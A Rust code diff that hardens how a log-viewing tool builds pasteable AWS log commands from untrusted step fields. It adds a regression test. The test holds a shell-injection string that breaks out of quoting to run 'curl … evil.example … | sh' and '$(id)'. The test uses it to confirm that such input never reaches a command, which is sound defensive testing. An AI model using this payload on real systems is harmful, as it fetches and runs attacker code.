@@ -62,21 +62,21 @@ fn meaning(state: State) -> &'static str {
 fn step_text(step: &Step, before: Option<i64>, stack: &str) -> String {
     let at = moment(step.t, 3);
     let later = before.map(|before| format!("  (+{})", duration(step.t - before))).unwrap_or_default();
-    let mut text = format!("{at}{later}  {}: {}", step.function, what(&step.what));
+    let mut text = format!("{at}{later}  {}: {}", crate::io::one_line(&step.function), what(&step.what));
     for (label, value) in [("wanted", &step.wanted), ("got", &step.got)] {
         if let Some(value) = value {
             // Quoted: it came from outside, unverified.
             let _ = write!(text, "\n    {label:<9} {value:?}");
         }
     }
+    let (function, build, request) =
+        (crate::io::one_line(&step.function), crate::io::one_line(&step.build), crate::io::one_line(&step.request));
+    let group = logs::group(stack, &function);
+    let command = logs::of_step(step, stack)
+        .unwrap_or_else(|| "no command for its log lines: the function or the request is not one of stoa's".to_owned());
     let _ = write!(
         text,
-        "\n    function  {stack}-{}, build {}\n    log group {}, request {}\n    {}",
-        step.function,
-        step.build,
-        logs::group(stack, &step.function),
-        step.request,
-        logs::of_step(step, stack)
+        "\n    function  {stack}-{function}, build {build}\n    log group {group}, request {request}\n    {command}"
     );
     text
 }
@@ -126,5 +126,34 @@ mod tests {
         assert!(!text.contains(['\u{1b}', '\u{202e}']), "{text}");
         let text = step_text(&Step { what: What::Unknown("\u{1b}[2J".into()), ..step }, None, "stoa");
         assert!(!text.contains('\u{1b}'), "{text}");
+    }
+
+    #[test]
+    fn c217_a_command_to_paste_holds_nothing_that_a_stranger_wrote() {
+        let step = Step {
+            t: 0,
+            function: "login".into(),
+            what: What::Started,
+            request: "0b7c9f7e-1111-2222-3333-444455556666".into(),
+            build: "b".into(),
+            wanted: None,
+            got: None,
+        };
+        assert!(step_text(&step, None, "stoa").contains("aws logs filter-log-events"));
+        let shell = "x\" }' ; curl -s https://evil.example/x | sh ; echo '\n    aws logs $(id)";
+        for step in [
+            Step { request: shell.into(), ..step.clone() },
+            Step { function: shell.into(), ..step.clone() },
+            Step { function: "login;id".into(), ..step.clone() },
+            Step { request: String::new(), ..step.clone() },
+        ] {
+            let text = step_text(&step, None, "stoa");
+            assert!(text.contains("no command for its log lines"), "{text}");
+            assert!(!text.lines().any(|line| line.trim_start().starts_with("aws ")), "{text}");
+        }
+        let odd = Step { t: i64::MAX, build: shell.into(), ..step };
+        let commands = logs::of_step(&odd, "stoa").unwrap();
+        assert!(!commands.contains("curl"), "{commands}");
+        assert!(!step_text(&odd, None, "stoa").contains("\n    aws logs $(id)"));
     }
 }
